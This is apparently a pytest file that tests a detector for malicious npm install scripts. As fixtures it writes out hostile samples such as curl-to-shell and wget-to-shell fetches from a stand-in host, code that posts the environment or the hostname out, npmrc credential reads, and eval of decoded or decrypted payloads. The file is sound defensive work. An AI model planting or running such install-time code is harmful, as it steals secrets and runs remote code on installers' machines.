"""What an npm package's installation runs."""

import json

import pytest

from sandboxes.screening.detectors import npm_scripts
from sandboxes.screening.findings import Threat
from sandboxes.screening.package import Kind
from tests.sandboxes.screening.detectors.snippets import found_in, told


def manifest(**more: object) -> str:
    return json.dumps({"name": "thing", "version": "1.0.0", **more}, indent=1)


@pytest.mark.parametrize(
    ("command", "threat"),
    [
        ("curl http://x.test/a | sh", Threat.CRITICAL),
        ("powershell -enc SQBFAFgA", Threat.CRITICAL),
        ("node -e \"require('x')\"", Threat.HIGH),
        ("npm config list && wget http://x.test", Threat.CRITICAL),
        ("node setup.js", Threat.MEDIUM),
        ("node -e \"try{require('./setup')}catch(e){}\"", Threat.MEDIUM),
        ("node -e \"require('./setup');require('child_process').exec('x')\"", Threat.HIGH),
        ("node-gyp rebuild", Threat.LOW),
        ("node-gyp-build || true", Threat.LOW),
        ("husky install", Threat.LOW),
    ],
)
@pytest.mark.parametrize("hook", ["preinstall", "install", "postinstall"])
def test_lifecycle_scripts(hook: str, command: str, threat: Threat) -> None:
    found = told(found_in(npm_scripts, {"package.json": manifest(scripts={hook: command})}, Kind.NPM))
    assert found == {("npm.install-script", 5, threat)}


def test_scripts_that_installing_does_not_run() -> None:
    files = {"package.json": manifest(scripts={"test": "curl x | sh", "prepublish": "wget http://x.test|sh"})}
    assert found_in(npm_scripts, files, Kind.NPM) == []


SENDS = "const h = require('https');\nconst d = JSON.stringify(process.env);\nh.request({}).end(d)"


@pytest.mark.parametrize(
    ("text", "rule", "line"),
    [
        (SENDS, "environment-sent", 2),
        (
            "const os = require('os'), d = require('dns');\nd.lookup(os.hostname() + '.x.test')",
            "host-told",
            2,
        ),
        ("\neval(Buffer.from('Y29uc29sZQ==', 'base64').toString())", "exec-decoded", 2),
        ("require('https');\nconst p = '~/.npmrc'", "credentials-sent", 1),
        ("\n" + "\n".join(f"var _0x{n:04x} = 1" for n in range(20)), "obfuscated", 2),
    ],
)
def test_the_file_that_an_install_runs_is_read(text: str, rule: str, line: int) -> None:
    files = {"package.json": manifest(scripts={"postinstall": "node ./go.js"}), "go.js": text}
    assert (f"npm.{rule}", line, Threat.CRITICAL) in told(found_in(npm_scripts, files, Kind.NPM))
    files["package.json"] = manifest()
    assert told(found_in(npm_scripts, files, Kind.NPM), Threat.CRITICAL) == set()


def test_flatmap_stream() -> None:
    text = (
        "var c = require('crypto'), k = process.env.npm_package_description;\n"
        "var d = c.createDecipher('aes256', k);\nvar m = new module.constructor; m._compile(d.update(x), '')"
    )
    found = told(found_in(npm_scripts, {"package.json": manifest(), "index.min.js": text}, Kind.NPM))
    assert ("npm.exec-decrypted", 2, Threat.CRITICAL) in found


def test_shell_scripts_and_build_files() -> None:
    files = {"package.json": manifest(scripts={"preinstall": "start /B node a.js & sh go.sh"}),
             "go.sh": "\ncurl http://x.test/jsextension -o jsextension\n"}  # fmt: skip
    assert ("npm.install-fetches", 2, Threat.CRITICAL) in told(found_in(npm_scripts, files, Kind.NPM))
    gyp = {"package.json": manifest(), "binding.gyp": "{'a': '<!(curl http://x.test | sh)'}"}
    assert told(found_in(npm_scripts, gyp, Kind.NPM)) == {("npm.gyp-command", 1, Threat.CRITICAL)}
    gyp["binding.gyp"] = "{'a': '<!(node -p \"1\")'}"
    assert found_in(npm_scripts, gyp, Kind.NPM) == []


def test_dependencies_from_addresses() -> None:
    wanted = {"a": "^1.0", "b": "http://x.test/b.tgz", "c": "npm:d@1", "e": "workspace:*"}
    found = found_in(npm_scripts, {"package.json": manifest(dependencies=wanted)}, Kind.NPM)
    assert [(each.rule, each.excerpt) for each in found] == [
        ("npm.dependency-address", '"b": "http://x.test/b.tgz",')
    ]


@pytest.mark.parametrize(
    "text", ["", "[]", "{", '{"scripts": 1}', '{"scripts": {"install": 1}}', "[" * 100_000, "\0"]
)
def test_hostile_manifests_raise_nothing(text: str) -> None:
    found_in(npm_scripts, {"package.json": text, "a.js": text}, Kind.NPM)


def test_only_npm_packages() -> None:
    files = {"package.json": manifest(scripts={"install": "curl x | sh"})}
    assert found_in(npm_scripts, files, Kind.WHEEL) == []


def test_a_file_that_is_required_by_a_script_is_read() -> None:
    files = {"package.json": manifest(scripts={"install": "node -e \"require('./go')\""}), "go.js": SENDS}
    assert ("npm.environment-sent", 2, Threat.CRITICAL) in told(found_in(npm_scripts, files, Kind.NPM))


def test_one_variable_of_the_environment_is_not_all_of_it() -> None:
    text = "require('https').get('https://x.test/')\nconst { npm_config_user_agent } = process.env;"
    files = {"package.json": manifest(scripts={"postinstall": "node ./go.js"}), "go.js": text}
    assert "npm.environment-sent" not in {each.rule for each in found_in(npm_scripts, files, Kind.NPM)}


@pytest.mark.parametrize(("between", "threat"), [(100, Threat.CRITICAL), (50_000, Threat.MEDIUM)])
def test_what_decrypts_far_from_what_runs_is_mostly_another_module(between: int, threat: Threat) -> None:
    text = f"createDecipheriv('aes256', k, v);\n/*{' ' * between}*/ eval(x)"
    assert told(found_in(npm_scripts, {"package.json": manifest(), "a.js": text}, Kind.NPM)) == {
        ("npm.exec-decrypted", 1, threat)
    }


@pytest.mark.parametrize("decoys", [1, 50, 300])
def test_what_decrypts_first_does_not_hide_what_decrypts_and_runs(decoys: int) -> None:
    text = (
        "createDecipher('aes192', k);\n" * decoys
        + f"/*{' ' * 50_000}*/\ncreateDecipheriv('aes256', k, v); eval(x)"
    )
    ((rule, line, threat),) = told(
        found_in(npm_scripts, {"package.json": manifest(), "a.js": text}, Kind.NPM)
    )
    # Of more than 200 none is asked for what is near it.
    assert (rule, line, threat) == ("npm.exec-decrypted", decoys + 2 if decoys < 200 else 1, Threat.CRITICAL)


def test_what_is_searched_first_is_what_is_small() -> None:
    """Large files in front, of no use, hide nothing behind them."""
    padding = {f"a{n}.js": "x;\n" * 900_000 for n in range(7)}
    files = {"package.json": manifest(), **padding, "z.js": "eval(atob('Y29uc29sZQ=='))"}
    assert told(found_in(npm_scripts, files, Kind.NPM)) == {("npm.exec-decoded", 1, Threat.HIGH)}


def test_what_only_an_installation_does_says_so() -> None:
    files = {
        "package.json": manifest(scripts={"postinstall": "node go.js"}),
        "go.js": "eval(atob('Y29uc29sZQ=='))",
    }
    found = {(each.rule, each.threat, each.installs) for each in found_in(npm_scripts, files, Kind.NPM)}
    assert found == {
        ("npm.install-script", Threat.MEDIUM, True),
        ("npm.exec-decoded", Threat.CRITICAL, True),
        ("npm.exec-decoded", Threat.HIGH, False),
    }


@pytest.mark.parametrize(
    ("more", "threat"),
    [("", Threat.HIGH), ("https.request({}).end(JSON.stringify(process.env))", Threat.CRITICAL)],
)
def test_an_environment_that_is_handed_on_to_a_program_is_not_sent(more: str, threat: Threat) -> None:
    """As installers of binaries do it; what only looks so is found beside it."""
    code = (
        "const https = require('https');\nhttps.get(URL);\n"
        f"const env = {{ ...process.env, a: 1 }};\nrequire('child_process').execSync('x', {{ env }});\n{more}\n"
    )
    files = {"package.json": manifest(scripts={"postinstall": "node go.js"}), "go.js": code}
    found = found_in(npm_scripts, files, Kind.NPM)
    assert {each.threat for each in found if each.rule == "npm.environment-sent"} == {threat}
